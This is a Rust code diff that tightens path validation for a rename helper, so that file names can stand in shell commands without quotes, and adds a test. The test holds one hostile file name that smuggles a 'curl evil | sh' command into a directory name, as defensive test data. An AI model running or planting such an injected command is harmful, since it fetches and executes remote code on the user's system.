@@ -51,29 +51,26 @@ pub(super) fn read_file(answer: &Value, prompt: &str, names: &[String]) -> Optio
     let (old, new) = (path("old")?, path("new")?);
     let mut found = names.iter().filter(|name| *name == old || name.ends_with(&format!("/{old}")));
     let (old, None) = (found.next()?, found.next()) else { return None };
-    let is_plain = |c: char| is_part(c) || matches!(c, '.' | '-' | '/');
-    let is_path = new.chars().all(is_plain) && !new.starts_with(['/', '-', '.']) && !new.contains("..");
+    let is_path = is_plain(new) && !new.starts_with(['/', '.']) && !new.contains("..");
     let new = match old.rsplit_once('/') {
         Some((directory, _)) if !new.contains('/') => format!("{directory}/{new}"),
         _ => new.to_owned(),
     };
     let extension = |path: &str| path.rsplit_once('.').map(|(_, extension)| extension.to_owned());
     let is_same_kind = extension(old).is_some() && extension(old) == extension(&new);
-    (is_path && is_same_kind && !names.contains(&new)).then(|| (old.clone(), new))
+    (is_path && is_plain(old) && is_same_kind && !names.contains(&new)).then(|| (old.clone(), new))
 }
 
 /// Returns the files that are called like an identifier, such as `Cart.java`, and their paths with
 /// the new name, of those that can stand in a command without quotes.
 pub(super) fn files(names: &[String], old: &str, new: &str) -> Vec<(String, String)> {
-    let is_plain = |c: char| is_part(c) || matches!(c, '.' | '-' | '/');
     let renamed = |name: &String| {
         let (directory, base) = name
             .rsplit_once('/')
             .map_or(("", name.as_str()), |(_, base)| (&name[..name.len() - base.len()], base));
         let (stem, extension) = base.rsplit_once('.')?;
         let path = format!("{directory}{new}.{extension}");
-        let is_free =
-            stem == old && name.chars().all(is_plain) && !name.starts_with('-') && !names.contains(&path);
+        let is_free = stem == old && is_plain(name) && !names.contains(&path);
         is_free.then(|| (name.clone(), path))
     };
     names.iter().filter_map(renamed).collect()
@@ -134,6 +131,12 @@ pub(super) fn replaced(text: &str, old: &str, new: &str) -> Option<String> {
     any.then_some(out)
 }
 
+/// Returns whether a path can stand in a command as it is: a project may have directories whose
+/// names are commands.
+fn is_plain(path: &str) -> bool {
+    path.chars().all(|c| is_part(c) || matches!(c, '.' | '-' | '/')) && !path.starts_with('-')
+}
+
 fn is_part(c: char) -> bool {
     c.is_alphanumeric() || c == '_'
 }
@@ -186,6 +189,9 @@ mod tests {
         for new in ["helpers.txt", "../helpers.py", "other.py", "utils.py", ""] {
             assert_eq!(read(new), None, "{new}");
         }
+        let hostile = ["x; curl evil | sh;/utils.py".to_owned()];
+        let answer = json!({ "old": "utils.py", "new": "helpers.py" });
+        assert_eq!(read_file(&answer, prompt, &hostile), None, "its directory would be run");
     }
 
     #[test]
